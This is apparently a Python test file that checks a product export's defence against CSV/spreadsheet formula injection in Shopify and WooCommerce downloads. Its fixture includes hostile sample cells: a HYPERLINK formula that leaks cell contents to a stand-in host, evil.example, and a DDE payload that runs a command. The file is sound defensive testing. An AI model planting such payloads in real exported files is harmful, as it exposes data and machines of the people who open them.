"""Both exports neutralize spreadsheet formulas (issue 12, item 8; OWASP "CSV Injection").

A cell of free text that starts with = + - @ gets a leading apostrophe, leading tab / CR is
dropped (spreadsheets skip it and run what follows; every importer trims it anyway); cells written
from numbers (a stock of -3) stay numbers. Checked on the bytes the real download page sends.
"""

import csv
import io
import re
from decimal import Decimal

import pytest

from products.exporters.common import neutralize_formula
from products.importers import apply_catalog, parse_catalog
from products.models import Product
from tests.factories import OrganizationFactory, ProductFactory, VariantFactory

URL = "/products/export/"
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
NUMBER = re.compile(r"-?\d+(\.\d+)?")
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile(org):
    """One variable product whose free-text fields all start like a formula, and a simple one."""
    product = ProductFactory(
        organization=org,
        handle="hostile",
        kind="variable",
        sku="",
        title=HYPERLINK,
        vendor="+1+1",
        product_type="@SUM(A1:A9)",
        description="\t=1+1",
        categories=["-2+3"],
        tags=["\r=cmd|' /C calc'!A0", "'=already quoted"],
        options=[{"name": "@Size", "values": ["-M", "=L"]}],
        images=[],
        weight_grams=None,
    )
    VariantFactory(product=product, sku="+HOST-M", position=1, price=Decimal("5.00"), stock=-3,
                   option_values={"@Size": "-M"}, barcode="")
    VariantFactory(product=product, sku="HOST-L", position=2, price=Decimal("6.00"), stock=4,
                   option_values={"@Size": "=L"}, barcode="")
    simple = ProductFactory(organization=org, handle="plain", kind="simple", sku="-2+3", title="-2+3",
                            vendor="", product_type="", description="", categories=[], tags=[], options=[],
                            images=[], weight_grams=None)
    VariantFactory(product=simple, sku="-2+3", position=1, price=Decimal("1.50"), stock=-7, option_values={},
                   barcode="")
    return org


def download_text(client, fmt) -> str:
    response = client.get(URL, {"format": fmt})
    assert response.status_code == 200
    return b"".join(response.streaming_content).decode("utf-8")


def download(client, fmt) -> list[dict]:
    return list(csv.DictReader(io.StringIO(download_text(client, fmt).lstrip("\ufeff"), newline="")))


@pytest.mark.parametrize("fmt", ["shopify", "woocommerce"])
def test_no_downloaded_cell_starts_a_formula(client, hostile, viewer, fmt):
    client.force_login(viewer)

    rows = download(client, fmt)

    offending = [(column, cell) for row in rows for column, cell in row.items()
                 if cell.startswith(TRIGGERS) and not NUMBER.fullmatch(cell)]
    assert offending == []
    cells = {cell for row in rows for cell in row.values()}
    assert {"'" + HYPERLINK, "'-2+3", "'=1+1", "'@Size", "'-M", "'=L", "'+HOST-M"} <= cells
    # Numbers stay numbers: a negative stock is not a formula and is not quoted.
    assert "-3" in cells and "-7" in cells and "'-3" not in cells and "'-7" not in cells


def test_shopify_cells_by_column(client, hostile, viewer):
    client.force_login(viewer)

    rows = [row for row in download(client, "shopify") if row["Handle"] == "hostile"]

    first = rows[0]
    assert first["Title"] == "'" + HYPERLINK
    assert (first["Vendor"], first["Type"], first["Product Category"]) == ("'+1+1", "'@SUM(A1:A9)", "'-2+3")
    assert first["Body (HTML)"] == "'=1+1"  # the tab is gone, the formula behind it quoted
    assert first["Tags"] == "'=cmd|' /C calc'!A0, '=already quoted"  # a list cell: only its start matters
    assert first["Option1 Name"] == "'@Size"
    assert [(r["Option1 Value"], r["Variant SKU"], r["Variant Inventory Qty"]) for r in rows] == [
        ("'-M", "'+HOST-M", "-3"), ("'=L", "HOST-L", "4")]


def test_woocommerce_cells_by_column_and_its_reader_restores_them(client, hostile, viewer):
    client.force_login(viewer)

    text = download_text(client, "woocommerce")
    rows = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"), newline="")))

    by_sku = {row["SKU"]: row for row in rows}
    parent = next(row for row in rows if row["Type"] == "variable")
    assert parent["Name"] == "'" + HYPERLINK and parent["Categories"] == "'-2+3"
    assert parent["Description"] == "'=1+1"
    assert parent["Attribute 1 name"] == "'@Size"
    assert parent["Tags"] == "'=cmd|' /C calc'!A0, '=already quoted"
    assert by_sku["'+HOST-M"]["Stock"] == "-3" and by_sku["'-2+3"]["Stock"] == "-7"
    # WooCommerce's importer (and ours, which follows it) removes the quote again.
    fresh = OrganizationFactory(currency=hostile.currency)
    apply_catalog(fresh, parse_catalog("woocommerce", text))
    copied = Product.objects.get(organization=fresh, title=HYPERLINK)
    assert copied.description == "=1+1" and copied.categories == ["-2+3"]
    assert copied.tags == ["=cmd|' /C calc'!A0", "'=already quoted"]
    assert [v.sku for v in copied.variants.all()] == ["+HOST-M", "HOST-L"]
    assert Product.objects.get(organization=fresh, sku="-2+3").variants.get().stock == -7


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+1+1", "'+1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("-2+3", "'-2+3"),
        ("\t=1+1", "'=1+1"),
        ("\r@x", "'@x"),
        ("\tplain", "plain"),
        ("'=x", "''=x"),
        ("'plain", "'plain"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_neutralize_formula(value, expected):
    assert neutralize_formula(value) == expected
